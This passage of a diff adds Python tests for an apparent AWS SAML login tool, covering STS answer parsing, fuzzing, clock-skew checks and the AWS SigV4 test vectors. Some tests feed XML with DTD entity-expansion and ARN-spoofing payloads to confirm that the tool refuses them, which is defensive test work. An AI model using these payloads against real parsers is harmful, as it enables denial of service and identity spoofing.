+                    aws_login._read_server_xml(body, error, "who")
+        root, _ = aws_login._read_server_xml(_utf16("<r>\u00e9</r>"), aws_login.STSError, "who")
+        self.assertEqual(root.text, "\u00e9")
+        with self.assertRaisesRegex(aws_login.STSError, "HTTP 403 with an HTML page"):
+            aws_login.parse_sts_answer(403, b"<!DOCTYPE html>\n<html>Forbidden</html>")
+
+    def test_an_sts_answer_in_utf16_with_a_dtd_is_refused(self):
+        issued = ('<!DOCTYPE AssumeRoleWithSAMLResponse [<!ENTITY t "%s">]>'
+                  '<AssumeRoleWithSAMLResponse xmlns="%s"><AssumeRoleWithSAMLResult>'
+                  '<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s'
+                  '</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s'
+                  '</Expiration></Credentials></AssumeRoleWithSAMLResult>'
+                  '</AssumeRoleWithSAMLResponse>')
+        later = _utc(time.time() + 3600)
+        for body in (_utf16(issued % ("T" * 100000, NS_STS, "&t;" * 100, later)),
+                     _utf16(issued.replace("<!ENTITY t \"%s\">", "%s")
+                            % ("", NS_STS, "FQoG", later))):
+            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
+            started = time.time()
+            run = self.capped_tool(["login"])
+            self.assertLess(time.time() - started, 10)
+            self.assert_nothing_written(run, 7)
+            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer \(HTTP 200\) holds a "
+                                         "DTD; refusing it")
+
+    def test_a_signed_calls_answer_with_a_dtd_is_refused(self):
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        identity = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
+                    '<Arn>&a;</Arn><UserId>AROAFAKE:alice</UserId><Account>%s</Account>'
+                    '</GetCallerIdentityResult></GetCallerIdentityResponse>' % (NS_STS, ACCOUNT_A))
+        dtd = '<!DOCTYPE GetCallerIdentityResponse [<!ENTITY a "arn:aws:iam::1:root">]>'
+        for body in ((dtd + identity).encode(), _utf16(dtd + identity)):
+            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
+            run = self.tool(["whoami"], terminal=False)
+            self.assertEqual((run.code, run.stdout), (7, ""), run)
+            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer to GetCallerIdentity "
+                                         r"\(HTTP 200\) holds a DTD; refusing it \(a SAML or "
+                                         r"STS answer never has one\)\n$")
+
+    def test_roles_come_only_from_the_signed_assertions_attribute_statement(self):
+        for where in ("Advice", "ds:Object"):
+            envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A])[0]
+            saml = aws_login.parse_ecp_answer(aws_login.HttpAnswer(
+                200, {"Content-Type": "text/xml"}, _with_role_elsewhere(envelope, where),
+                "https://idp/ecp"), AWS_ACS_URLS[0])
+            self.assertEqual(saml.roles, [aws_login.Role(ADMIN, PROVIDER_A)], where)
+            # A login offers no menu: one role, the signed one.
+            self.idp.override = _envelope_answer(
+                self.idp, lambda e: _with_role_elsewhere(e, where), session_name="alice")
+            self.assert_logged_in(self.tool(["login"], terminal=False))
+
+
+class FuzzTest(HomeTestCase):
+    """A seeded, bounded mutation fuzzer: no exception escapes but ours."""
+
+    SEED = int(os.environ.get("FUZZ_SEED", "20261127"))
+    ROUNDS = int(os.environ.get("FUZZ_ROUNDS", "1500"))
+    TOKENS = [b"<", b">", b"</", b"/>", b"&", b"&amp;", b"<!DOCTYPE x>", b"]]>", b"\x00",
+              b"\xff", b"\xc3", b"[", b"]", b"=", b":", b"\r\n", b"\n", b"%", b",", b'"',
+              b"xmlns:saml2p='urn:x'", b"arn:aws:iam::123456789012:role/", b"<![CDATA[",
+              b"\t", b" ", b"Z", b"9" * 30, b"-"]
+
+    def mutate(self, rng, data):
+        data = bytearray(data)
+        for _ in range(rng.randint(1, 6)):
+            choice = rng.randrange(5)
+            at = rng.randrange(len(data) + 1)
+            if choice == 0 and data:
+                data[min(at, len(data) - 1)] = rng.randrange(256)
+            elif choice == 1:
+                del data[at:at + rng.randint(1, 64)]
+            elif choice == 2:
+                data[at:at] = rng.choice(self.TOKENS)
+            elif choice == 3 and data:
+                start = rng.randrange(len(data))
+                data[at:at] = data[start:start + rng.randint(1, 200)]
+            else:
+                del data[at:]
+        return bytes(data)
+
+    def fuzz(self, seeds, target):
+        import random
+        rng = random.Random(self.SEED)
+        deadline = time.time() + 20
+        for i in range(self.ROUNDS):
+            data = self.mutate(rng, rng.choice(seeds))
+            try:
+                target(data)
+            except aws_login.AwsLoginError:
+                pass
+            except Exception as e:
+                self.fail("round %d (seed %d): %s: %s on %r" % (i, self.SEED, type(e).__name__,
+                                                               e, data[:300]))
+            if time.time() > deadline:
+                break
+
+    def test_idp_answers(self):
+        seeds = [build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A,
+                                                                READONLY + "," + PROVIDER_B],
+                                         session_duration=3600, prefix_style=style)[0]
+                 for style in ("odd", "plain")]
+        seeds.append(build_status_envelope("_r", AWS_ACS_URLS[0])[0])
+
+        def target(body):
+            answer = aws_login.HttpAnswer(200, {"Content-Type": "text/xml"}, body,
+                                          "https://idp.example.edu/ecp")
+            saml = aws_login.parse_ecp_answer(answer, AWS_ACS_URLS[0])
+            self.assertIsInstance(saml.response_xml, bytes)
+        self.fuzz(seeds, target)
+
+    def test_sts_answers(self):
+        issued = (b'<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">'
+                  b'<AssumeRoleWithSAMLResult><Credentials><AccessKeyId>ASIA1</AccessKeyId>'
+                  b'<SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken>'
+                  b'<Expiration>2026-11-27T10:33:19.392466Z</Expiration></Credentials>'
+                  b'<AssumedRoleUser><Arn>arn:aws:sts::1:assumed-role/A/b</Arn></AssumedRoleUser>'
+                  b'</AssumeRoleWithSAMLResult></AssumeRoleWithSAMLResponse>')
+        error = sts_error("ValidationError", "DurationSeconds too long")[2]
+        self.fuzz([issued, error], lambda body: aws_login.parse_sts_answer(200, body))
+
+    def test_config_and_credentials_files(self):
+        seeds = [b"# c\r\n[default]\r\necp_endpoint_url = https://idp/ecp\r\nusername = a\r\n"
+                 b"factor = push\r\nduration = 3600\r\n\r\n[p]\nrole_arn = " + ADMIN.encode() +
+                 b"\nenable_keyring=true\n", b"[a]\nk=v\n  cont\n[a]\nk=w"]
+
+        def target(data):
+            text = data.decode("utf-8", "replace")
+            self.write(self.config_file, text)
+            try:
+                aws_login.read_profile("default")
+            except aws_login.AwsLoginError:
+                pass
+            self.write(self.credentials_file, text)
+            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+            aws_login.remove_credentials("p")
+            aws_login.ini_set_options(text, "default", {"username": "x", "factor": None})
+        self.fuzz(seeds, target)
+
+
+# ---------------------------------------------------------------------------
+# STS
+# ---------------------------------------------------------------------------
+
+class StsPureTest(unittest.TestCase):
+    def test_endpoints_by_partition_region_and_environment(self):
+        e = aws_login.sts_endpoint
+        self.assertEqual(e("aws", None, {}), "https://sts.amazonaws.com/")
+        self.assertEqual(e("aws", "eu-west-1", {}), "https://sts.eu-west-1.amazonaws.com/")
+        self.assertEqual(e("aws-cn", None, {}), "https://sts.cn-north-1.amazonaws.com.cn/")
+        self.assertEqual(e("aws-cn", "cn-northwest-1", {}),
+                         "https://sts.cn-northwest-1.amazonaws.com.cn/")
+        self.assertEqual(e("aws-cn", "us-east-1", {}), "https://sts.cn-north-1.amazonaws.com.cn/")
+        self.assertEqual(e("aws-us-gov", None, {}), "https://sts.us-gov-west-1.amazonaws.com/")
+        self.assertEqual(e("aws-us-gov", "us-gov-east-1", {}),
+                         "https://sts.us-gov-east-1.amazonaws.com/")
+        self.assertEqual(e("aws", "cn-north-1", {}), "https://sts.amazonaws.com/")
+        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:5000"}),
+                         "http://127.0.0.1:5000")
+        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:1",
+                                         "AWS_ENDPOINT_URL_STS": "https://sts.local:2"}),
+                         "https://sts.local:2")
+        self.assertRaises(aws_login.ConfigError, e, "aws", None,
+                          {"AWS_ENDPOINT_URL_STS": "http://sts.example.com"})
+
+    def test_timestamps_from_real_sts_and_moto(self):
+        import datetime
+        utc = datetime.timezone.utc
+        p = aws_login.parse_timestamp
+        self.assertEqual(p("2026-11-27T10:33:19Z"), datetime.datetime(2026, 11, 27, 10, 33, 19,
+                                                                      tzinfo=utc))
+        self.assertEqual(p("2026-11-27T10:33:19.392466Z"),
+                         datetime.datetime(2026, 11, 27, 10, 33, 19, 392466, tzinfo=utc))
+        self.assertEqual(p("2026-11-27T11:33:19+01:00"), p("2026-11-27T10:33:19Z"))
+        self.assertRaises(ValueError, p, "2026-11-27 10:33:19")
+
+    def test_the_error_element_is_found_wherever_aws_puts_it(self):
+        error = (b"<Error><Type>Sender</Type><Code>SignatureDoesNotMatch</Code><Message>The "
+                 b"request signature we calculated does not match</Message></Error>")
+        ns = b' xmlns="https://sts.amazonaws.com/doc/2011-06-15/"'
+        for body in (b"<ErrorResponse" + ns + b">" + error + b"</ErrorResponse>",
+                     b"<ErrorResponse>" + error + b"</ErrorResponse>",
+                     b"<ErrorResponse" + ns + b"><Errors>" + error + b"</Errors></ErrorResponse>",
+                     b"<Response><Errors>" + error + b"</Errors><RequestID>r</RequestID>"
+                     b"</Response>"):
+            for action in ("AssumeRoleWithSAML", "GetCallerIdentity"):
+                with self.assertRaises(aws_login.STSError) as cm:
+                    aws_login.parse_sts_answer(403, body, action)
+                self.assertEqual(cm.exception.code, "SignatureDoesNotMatch", body)
+                self.assertIn("STS refused %s: SignatureDoesNotMatch: The request signature"
+                              % action, str(cm.exception))
+
+    def test_x_amzn_errortype_is_the_fallback_code(self):
+        headers = {"X-Amzn-ErrorType": "ExpiredTokenException:http://internal.amazon.com/"}
+        for body in (b"", b"<ErrorResponse><Unknown/></ErrorResponse>"):
+            with self.assertRaises(aws_login.STSError) as cm:
+                aws_login.parse_sts_answer(400, body, "GetCallerIdentity", headers)
+            self.assertEqual(cm.exception.code, "ExpiredTokenException")
+        with self.assertRaises(aws_login.STSError) as cm:
+            aws_login.parse_sts_answer(400, b"<ErrorResponse/>", "GetCallerIdentity")
+        self.assertEqual(cm.exception.code, "HTTP 400")
+
+    def test_error_shapes_keep_code_and_message(self):
+        body = (b'<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error>'
+                b'<Type>Sender</Type><Code>ValidationError</Code><Message>The requested '
+                b'DurationSeconds exceeds the MaxSessionDuration set for this role.</Message>'
+                b'</Error><RequestId>r</RequestId></ErrorResponse>')
+        with self.assertRaises(aws_login.STSError) as cm:
+            aws_login.parse_sts_answer(400, body)
+        self.assertEqual(cm.exception.code, "ValidationError")
+        self.assertIn("MaxSessionDuration", str(cm.exception))
+        self.assertIn("lower `duration`", str(cm.exception))
+        bare = b"<ErrorResponse><Error><Code>Throttling</Code><Message>Rate exceeded</Message></Error></ErrorResponse>"
+        with self.assertRaises(aws_login.STSError) as cm:
+            aws_login.parse_sts_answer(400, bare)
+        self.assertEqual(cm.exception.code, "Throttling")
+        for status, junk in ((403, b"Forbidden"), (200, b""), (200, b"<a/>"),
+                             (200, b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')):
+            self.assertRaises(aws_login.STSError, aws_login.parse_sts_answer, status, junk)
+
+    def test_what_atheris_and_reading_found(self):
+        p = aws_login.parse_timestamp
+        for text in ("9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00"):
+            self.assertRaises(ValueError, p, text)              # not OverflowError
+        multibyte = b'<?xml version="1.0" encoding="UTF-7"?><a/>'
+        self.assertRaises(aws_login.IdPError, aws_login.parse_ecp_answer, aws_login.HttpAnswer(
+            200, {"Content-Type": "text/xml"}, multibyte, "https://idp/ecp"), "https://x/saml")
+        self.assertRaises(aws_login.STSError, aws_login.parse_sts_answer, 200, multibyte)
+        with self.assertRaises(aws_login.STSError) as cm:
+            aws_login.parse_sts_answer(503, b"<!DOCTYPE html><html>down</html>")
+        self.assertTrue(cm.exception.transient)
+        envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A],
+                                          session_duration=3600)[0]
+        odd = envelope.replace(b">3600<", b">\xc2\xb2<")          # a superscript two
+        saml = aws_login.parse_ecp_answer(aws_login.HttpAnswer(
+            200, {"Content-Type": "text/xml"}, odd, "https://idp/ecp"), AWS_ACS_URLS[0])
+        self.assertIsNone(saml.session_duration)
+
+    def test_credentials_repr_hides_secrets(self):
+        import datetime
+        c = aws_login.Credentials("ASIAX", "secret-key", "session-token",
+                                  datetime.datetime.now(datetime.timezone.utc))
+        self.assertNotIn("secret-key", repr(c))
+        self.assertNotIn("session-token", repr(c))
+
+
+class StsAnswersTest(LoginTestCase):
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def test_documented_error_shapes(self):
+        for code, message, advice in (
+                ("InvalidIdentityToken", "Invalid SAML assertion", "already used"),
+                ("ExpiredTokenException", "Token expired", "clock"),
+                ("AccessDenied", "Not authorized", "trust policy"),
+                ("IDPRejectedClaim", "Rejected", "")):
+            self.sts.queue.append(sts_error(code, message))
+            run = self.tool(["login"], terminal=False)
+            self.assert_nothing_written(run, 7)
+            self.assertIn("%s: %s" % (code, message), run.stderr)
+            self.assertIn(advice, run.stderr)
+
+    def test_throttling_is_bounded(self):
+        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 10)
+        started = time.time()
+        run = self.tool(["login"], terminal=False)
+        self.assert_nothing_written(run, 7)
+        self.assertEqual(len(self.sts.requests), aws_login.STS_ATTEMPTS)
+        self.assertLess(time.time() - started, 15)
+
+
+def _sts_clock_behind(sts, seconds):
+    """STS's clock ``seconds`` behind ours, in its Expiration and its Date header
+    (BaseHTTPRequestHandler.send_response writes date_time_string())."""
+    import email.utils
+
+    def answer(handler):
+        handler.date_time_string = lambda timestamp=None: email.utils.formatdate(
+            time.time() - seconds, usegmt=True)
+        return None         # then the fake answers as usual
+    sts.clock = lambda: time.time() - seconds
+    sts.override = answer
+
+
+class StsLifetimeTest(LoginTestCase):
+    """Credentials that are already expired, or nearly, are a failure with a reason."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def fails_in_one_line(self, run, pattern):
+        self.assert_nothing_written(run, 7)
+        self.assertRegex(run.stderr, "^aws_login: error: " + pattern)
+
+    def test_an_expiration_in_the_past_is_stss_fault_when_the_clocks_agree(self):
+        self.sts.clock = lambda: time.time() - 7200
+        self.fails_in_one_line(self.tool(["login"], terminal=False),
+                               r"STS sent credentials that expire at \S+Z, which is not in "
+                               r"the future \(STS's clock agrees with this machine's\)$")
+        self.assertEqual(len(self.sts.requests), 1)     # not retried within the call
+
+    def test_stss_date_an_hour_and_more_off_names_this_machines_clock(self):
+        _sts_clock_behind(self.sts, 7200)
+        self.fails_in_one_line(self.tool(["login"], terminal=False),
+                               r"this machine's clock is (7199|7200|7201) s ahead of STS's: "
+                               r"by this clock the credentials STS sent, which expire at \S+Z, "
+                               r"have expired; set the clock right \(NTP\)$")
+
+    def test_credential_process_says_it_in_one_line(self):
+        self.write(os.environ["AWS_CONFIG_FILE"], "")
+        self.assertEqual(self.tool(["configure", "--credential-process"],
+                                   terminal=False).code, 0)
+        _sts_clock_behind(self.sts, 3 * 3600)
+        run = self.tool(["credential-process"], terminal=False)
+        self.assertEqual((run.code, run.stdout), (7, ""), run)
+        self.assertRegex(run.stderr, r"^aws_login: error: this machine's clock is \d+ s "
+                                     r"ahead of STS's: [^\n]*\n$")
+
+    def test_a_chained_role_is_checked_against_the_saml_answers_date(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       chain_role_arn=READONLY)
+        _sts_clock_behind(self.sts, 2 * 3600)
+        self.sts.clock = lambda: time.time() - (
+            2 * 3600 if self.sts.requests[-1]["form"].get("Action") == "AssumeRole" else 0)
+        self.fails_in_one_line(self.tool(["login"], terminal=False),
+                               r"this machine's clock is \d+ s ahead of STS's")
+        self.assertEqual([r["form"].get("Action") for r in self.sts.requests],
+                         ["AssumeRoleWithSAML", "AssumeRole"])
+
+    def test_lifetime_counts_from_the_request_not_the_answer(self):
+        check = aws_login.check_lifetime
+        sent = 1000000000.0
+        ok = _fake_credentials()
+        ok.expires_at = aws_login._utc(sent + aws_login.MIN_LIFETIME)
+        self.assertIs(check(ok, sent, now=sent + aws_login.MIN_LIFETIME - 0.5), ok)
+        with self.assertRaisesRegex(aws_login.STSError, r"which is not in the future$"):
+            check(ok, sent, now=sent + aws_login.MIN_LIFETIME)
+        short = _fake_credentials()
+        short.expires_at = aws_login._utc(sent + aws_login.MIN_LIFETIME - 1)
+        with self.assertRaisesRegex(aws_login.STSError, r", %d s after they were asked for "
+                                    r"\(%d s at least" % (aws_login.MIN_LIFETIME - 1,
+                                                          aws_login.MIN_LIFETIME)) as caught:
+            check(short, sent, now=sent + 0.1)
+        self.assertTrue(caught.exception.transient)
+        now = sent + aws_login.MIN_LIFETIME
+        for sts_date, words in ((now - 301, "clock is 301 s ahead of STS's"),
+                                (now + 400, "clock is 400 s behind STS's"),
+                                (now - 299, "not in the future .STS's clock agrees")):
+            with self.assertRaisesRegex(aws_login.STSError, words):
+                check(ok, sent, sts_date, now=now)
+        self.assertEqual(aws_login._http_date("Sun, 06 Nov 1994 08:49:37 GMT"), 784111777.0)
+        self.assertEqual(aws_login._http_date("Sunday, 06-Nov-94 08:49:37 GMT"), 784111777.0)
+        self.assertEqual(aws_login._http_date("Sun Nov  6 08:49:37 1994"), 784111777.0)
+        for garbage in (None, "", "yesterday", "Sun, 06 Nov 99999999999 08:49:37 GMT"):
+            aws_login._http_date(garbage)       # None or a number, never an exception
+
+
+class SigV4OrderTest(unittest.TestCase):
+    def test_query_is_sorted_after_encoding(self):
+        canonical, _ = aws_login.canonical_request("GET", "https://sts.amazonaws.com/?Z=1&%5B=2&a=",
+                                                   {"Host": "sts.amazonaws.com"}, b"")
+        self.assertEqual(canonical.split("\n")[2], "%5B=2&Z=1&a=")
+
+
+# The AWS Signature Version 4 test suite (the classic one AWS published),
+# copied byte for byte: request, canonical request, string to sign, Authorization.
+# AWS Signature Version 4 Test Suite
+# Copyright Amazon.com, Inc. or its affiliates. All Rights Reserved.
+# SPDX-License-Identifier: Apache-2.0.  (The license text is in LICENSE.)
+SIGV4_SUITE = {
+    'get-relative': {
+        'req': 'GET /example/.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-relative-relative': {
+        'req': 'GET /example1/example2/../.. HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-slash': {
+        'req': 'GET // HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-slash-dot-slash': {
+        'req': 'GET /./ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-slash-pointless-dot': {
+        'req': 'GET /./example HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/example\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n214d50c111a8edc4819da6a636336472c916b5240f51e9a51b5c3305180cf702',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=ef75d96142cf21edca26f06005da7988e4f8dc83a165a80865db7089db637ec5',
+    },
+    'get-slashes': {
+        'req': 'GET //example// HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/example/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\ncb96b4ac96d501f7c5c15bc6d67b3035061cfced4af6585ad927f7e6c985c015',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=9a624bd73a37c9a373b5312afbebe7a714a789de108f0bdfe846570885f57e84',
+    },
+    'get-space': {
+        'req': 'GET /example space/ HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/example%20space/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n63ee75631ed7234ae61b5f736dfc7754cdccfedbff4b5128a915706ee9390d86',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=652487583200325589f1fba4c7e578f72c47cb61beeca81406b39ddec1366741',
+    },
+    'get-vanilla': {
+        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-vanilla-query': {
+        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nbb579772317eb040ac9ed261061d46c1f17a8133879d6129b6e1c25292927e63',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31',
+    },
+    'get-vanilla-with-session-token': {
+        'req': 'GET / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'GET\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n067b36aa60031588cea4a4cde1f21215227a047690c72247f1d70b32fbbfad2b',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=07ec1639c89043aa0e3e2de82b96708f198cceab042d4a97044c66dd9f74e7f8',
+    },
+    'post-sts-header-after': {
+        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
+    },
+    'post-sts-header-before': {
+        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\nX-Amz-Security-Token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==',
+        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\nx-amz-security-token:AQoDYXdzEPT//////////wEXAMPLEtc764bNrC9SAPBSM22wDOk4x4HIZ8j4FZTwdQWLWsKWHGBuFqwAeMicRXmxfpSPfIeoIYRqTflfKD8YUuwthAx7mSEI/qkPpKPi/kMcGdQrmGdeehM4IC1NtBmUpp2wUE8phUZampKsburEDy0KPkyQDYwT7WZ0wq5VSXDvp75YU9HFvlRd8Tx6q6fE8YQcHNVXAkiY9q6d+xo0rKwT38xVqr7ZD0u0iPPkUL64lIZbqBAz+scqKmlzm8FDrypNC9Yjc8fPOLn9FX9KSYvKTr4rvx3iSIlTJabIQwj2ICCR/oLxBA==\n\nhost;x-amz-date;x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\nc237e1b440d4c63c32ca95b5b99481081cb7b13c7e40434868e71567c1a882f6',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=85d96828115b5dc0cfc3bd16ad9e210dd772bbebba041836c64533a82be05ead',
+    },
+    'post-vanilla': {
+        'req': 'POST / HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
